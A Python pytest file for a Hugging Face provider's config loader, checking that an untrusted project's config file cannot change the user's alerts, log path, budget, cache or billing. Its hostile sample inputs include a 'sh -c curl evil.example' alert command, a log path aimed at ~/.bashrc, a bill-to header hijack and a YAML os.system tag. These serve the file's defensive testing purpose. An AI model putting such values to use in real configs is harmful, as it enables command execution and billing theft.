"""A project's file came with a stranger's code: what it wants of the user's, it misses.

Trust is of an origin, so every rule holds for a project that the user trusts, too.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from attrs import evolve
from config_world import ENTRY, World

from bytebuddy_provider_hf.client.endpoint import BILL_TO
from bytebuddy_provider_hf.client.opening import open_entry
from bytebuddy_provider_hf.config.schema import KEYS
from bytebuddy_provider_hf.config.values import (
    AlertOptions,
    Budget,
    BudgetOptions,
    CacheOptions,
    Config,
)
from bytebuddy_provider_hf.errors import ConfigInvalid
from bytebuddy_provider_hf.plugins.discovery import discover
from bytebuddy_provider_hf.plugins.registry import ModelRegistry

ROUTER = "https://router.huggingface.co"
MODELS = f"models:\n{ENTRY}"
THEIRS = MODELS.replace("name: m", "name: theirs")
MINE = """\
ledger: on
alerts: {command: [notify, mine]}
budget: {calls: 100, hard: true}
cache: {mode: on, size: 100}
log: {path: ~/mine.log}
models:
  - name: mine
    provider: huggingfaceinferenceapi
    model: org/name
    billTo: my-org
    budget: {dollars: 1}
    fallbacks: [second]
  - {name: second, provider: huggingfaceinferenceapi, model: org/second, apiKey: k}
"""
# What a stranger may write, above its models or in one of them.
WANTED = {
    "ledger": "ledger: off\n",
    "ledger by a bool": "ledger: false\n",
    "alerts": "alerts: {command: [sh, -c, 'curl evil.example']}\n",
    "alerts as a text": "alerts: curl evil.example\n",
    "log": "log: {path: ~/.bashrc}\n",
    "budget": "budget: {calls: 1000000000, dollars: 999999}\n",
    "cache": "cache: {mode: all, size: 65536}\n",
    "cache off": "cache: off\n",
    "payer": "requestOptions: {headers: {x-hf-bill-to: theirs}}\n",
    "folders": "stateDir: /tmp/x\ncacheDir: /tmp/x\nledgerPath: /tmp/x\n",
    "as hosts write": "env: {HF_BILL_TO: theirs, XDG_CACHE_HOME: /tmp/x}\n",
}


def trusting(world: World, *, trusted: bool) -> World:
    if trusted:
        world.store.add(world.project, ROUTER)
    return world


def of_the_user(config: Config) -> object:
    """Return what of a configuration a project's file must not change."""
    entries = [each for each in config.entries if each.name in ("mine", "second")]
    return config.ledger, config.alerts, config.log, entries


@pytest.mark.parametrize("trusted", [False, True])
@pytest.mark.parametrize("wanted", WANTED.values(), ids=WANTED)
def test_what_is_the_users_stays_as_it_is(
    world: World, wanted: str, trusted: bool
) -> None:
    """With and without a stranger's file beside it: the same, to the last field."""
    world.write(world.user_file, MINE)
    before = of_the_user(world.load())
    trusting(world, trusted=trusted).write(world.project_file, f"{wanted}{THEIRS}")
    config = world.load()
    assert of_the_user(config) == before
    assert [each.name for each in config.entries] == ["mine", "second", "theirs"]


@pytest.mark.parametrize("trusted", [False, True])
@pytest.mark.parametrize("wanted", WANTED.values(), ids=WANTED)
def test_nothing_of_it_counts_where_the_user_has_no_file(
    world: World, wanted: str, trusted: bool
) -> None:
    """The defaults do: counted, no command, no file, no payer."""
    trusting(world, trusted=trusted).write(world.project_file, f"{wanted}{THEIRS}")
    config = world.load()
    assert (config.ledger, config.alerts, config.log) == (True, None, None)
    (entry,) = config.entries
    assert entry.bill_to is None
    assert not any(
        name.lower() == BILL_TO.lower() for name in entry.request_options.headers
    )
    assert entry.cache is None or entry.cache.size is None
    # Told, each: a file that is half ignored must say so.
    quiet = ("budget", "cache: off", "env")
    assert config.warnings or wanted.startswith(quiet)


@pytest.mark.parametrize("trusted", [False, True])
def test_a_projects_entry_takes_nothing_of_the_users(
    world: World, trusted: bool
) -> None:
    """Not by the keys of an entry, which are those of a user's entry."""
    text = THEIRS + (
        "    billTo: theirs\n    budget: {calls: 9}\n"
        "    cache: {mode: all, size: 65536}\n    fallbacks: [mine, second]\n"
        "    ledger: off\n    alerts: {command: [x]}\n"
    )
    world.write(world.user_file, MINE)
    trusting(world, trusted=trusted).write(world.project_file, text)
    config = world.load()
    theirs = config.entries[-1]
    assert theirs.bill_to is None
    # One with a payer is not theirs to ask; the other is at the same origin.
    assert theirs.fallbacks == ("second",)
    # The size is that of the file that all entries share, as the user says.
    assert theirs.cache == CacheOptions("all", size=100)
    assert (config.ledger, config.alerts) == (True, AlertOptions(("notify", "mine")))
    places = {
        each.place.rpartition(":")[0].rpartition(":")[2] for each in config.warnings
    }
    assert places >= {"5", "7", "9", "10"}


def test_the_users_budget_holds_whatever_a_project_writes(world: World) -> None:
    """No budget of a project's takes one away, raises it, or has its name."""
    world.write(world.user_file, MINE)
    own = str(world.user_file)
    # An entry may be called as a budget of the user's is.
    for name in (own, "mine ", "credits", "spending limit"):
        entry = THEIRS.replace("theirs", json.dumps(name))
        text = f"budget: {{calls: 999999}}\n{entry}    budget: {{calls: 1}}\n"
        world.write(world.project_file, text)
        config = world.load()
        users = Budget(own, BudgetOptions(calls=100, hard=True))
        stranger = config.entries[-1]
        if name.strip() != "mine":
            assert users in stranger.budgets
        others = [each for each in stranger.budgets if each.of_project]
        names = {each.name for each in config.entries[0].budgets}
        assert not names & {each.name for each in others}
        assert {"credits", "spending limit"}.isdisjoint(each.name for each in others)
        assert config.entries[0].budgets == (
            Budget("mine", BudgetOptions(dollars=10**9)),
            users,
        )


def test_two_projects_do_not_share_a_budget(world: World, tmp_path: Path) -> None:
    """What one of them uses up is not missing to the other."""
    text = f"{THEIRS}    budget: {{calls: 5}}\n"
    found = set()
    for folder in ("one", "two"):
        (tmp_path / folder).mkdir()
        there = evolve(world, project=tmp_path / folder)
        there.write(there.project_file, text)
        (budget,) = there.load().entries[0].budgets
        assert budget.of_project
        found.add(budget.name)
    assert len(found) == 2


@pytest.mark.parametrize(
    ("written", "run"),
    [
        ("notify-send", "notify-send"),
        ("/usr/bin/notify", "/usr/bin/notify"),
        ("./notify", "FOLDER/notify"),
        ("bin/notify", "FOLDER/bin/notify"),
        ("../notify", "FOLDER/../notify"),
        ("~/bin/notify", "HOME/bin/notify"),
        ("~other/notify", "FOLDER/~other/notify"),
    ],
)
def test_a_command_is_not_looked_for_where_the_program_runs(
    world: World, written: str, run: str
) -> None:
    """That folder may be a project's: a path counts from the file that names it."""
    world.write(world.user_file, f"alerts: {{command: ['{written}', '-x']}}\n{MODELS}")
    (world.project / "notify").write_text("#!/bin/sh\n")
    found = world.load().alerts
    assert found is not None
    folder, home = str(world.user_file.parent), str(world.home)
    expected = run.replace("FOLDER", folder).replace("HOME", home)
    assert found.command == (expected, "-x")


@pytest.mark.parametrize("trusted", [False, True])
def test_a_projects_env_file_names_no_program_and_no_payer(
    world: World, trusted: bool
) -> None:
    """Nor does it turn anything off: only the user's variables count up there."""
    trusting(world, trusted=trusted).write(
        world.project / ".env",
        "NOTIFY=/tmp/evil\nLIMIT=999999\nHF_BILL_TO=theirs\nMODE=all\n",
    )
    world.write(
        world.user_file,
        "alerts: {command: ['${NOTIFY}']}\nbudget: {calls: '${LIMIT}'}\n"
        f"cache: '${{MODE}}'\n{MODELS}    apiKey: hf_x\n",
    )
    config = world.load()
    assert config.alerts is None
    (entry,) = config.entries
    assert (entry.budgets, entry.cache) == ((), None)
    told = " ".join(each.message for each in config.warnings)
    assert "NOTIFY" in told
    assert "LIMIT" in told
    found = discover(env={})
    registry = ModelRegistry(config, found, home=world.home, env={})
    model = open_entry(entry, registry._opening("m").context)
    assert not model._endpoint.destination.told or (
        BILL_TO not in dict(model._endpoint.destination.told)
    )


def test_no_key_names_a_folder_of_the_users() -> None:
    """Where the ledger and what is kept lie is no file's to say; the log's is named."""
    places = [
        (key.section, key.name)
        for key in KEYS
        if any(part in key.name.lower() for part in ("path", "dir", "folder"))
    ]
    assert sorted(places) == [("log", "path"), ("requestOptions", "caBundlePath")]


@pytest.mark.parametrize(
    "wanted",
    [
        'ledger: off\n"ledger": on\n',
        "x: &a {command: [evil]}\nalerts: *a\n",
        "alerts: !!python/object:os.system x\n",
        "? ledger\n: off\n",
        "{ledger: off}\n",
    ],
)
def test_no_trick_of_yaml_gets_by(world: World, wanted: str) -> None:
    """Whatever it becomes, an error or a warning, it is not obeyed."""
    world.write(world.user_file, MINE)
    before = of_the_user(world.load())
    world.write(world.project_file, f"{wanted}{THEIRS}")
    try:
        config = world.load()
    except ConfigInvalid:
        return
    assert of_the_user(config) == before
